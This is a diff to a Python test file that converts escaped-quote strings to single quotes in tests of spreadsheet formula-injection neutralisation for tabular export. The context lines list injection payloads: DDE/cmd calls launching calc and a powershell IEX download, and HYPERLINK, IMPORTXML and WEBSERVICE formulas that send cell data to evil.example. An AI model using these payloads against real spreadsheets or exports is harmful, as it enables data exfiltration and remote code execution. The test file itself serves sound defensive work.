@@ -28,7 +28,7 @@ FORMULA_PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
     "=cmd|' /C calc'!A0",
     "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
     "+1+1",
     "+cmd|' /C notepad'!A0",
     "-1+1",
@@ -55,8 +55,8 @@ FORMULA_PAYLOADS = [
     "－1",
     "＠A1",
     " ＝cmd|' /C calc'!A0",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
-    "=WEBSERVICE(\"http://evil.example/\"&A1)",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
+    '=WEBSERVICE("http://evil.example/"&A1)',
     "-@SUM(1)",
     "−1+1",
 ]
@@ -131,11 +131,11 @@ def test_row_follows_the_header_with_reasons_status_and_dates():
 
 
 def test_hostile_name_is_neutralised_in_the_row_but_raw_in_json():
-    hostile = record(name="=HYPERLINK(\"http://x\")", party="-pkb")
+    hostile = record(name='=HYPERLINK("http://x")', party="-pkb")
     row = tabular_row(hostile, ["cv"])
-    assert "'=HYPERLINK(\"http://x\")" in row
+    assert '\'=HYPERLINK("http://x")' in row
     assert "'-pkb" in row
-    assert json_record(hostile)["name"] == "=HYPERLINK(\"http://x\")"
+    assert json_record(hostile)["name"] == '=HYPERLINK("http://x")'
 
 
 TRICKY = [
